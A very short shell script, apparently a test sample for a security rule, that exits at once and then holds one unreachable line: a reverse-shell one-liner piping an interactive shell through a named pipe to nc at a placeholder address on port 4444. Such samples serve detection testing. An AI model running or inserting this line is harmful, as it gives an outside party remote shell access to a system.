#!/bin/sh
# airlock rule test sample: exits before doing anything.
exit 0
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f
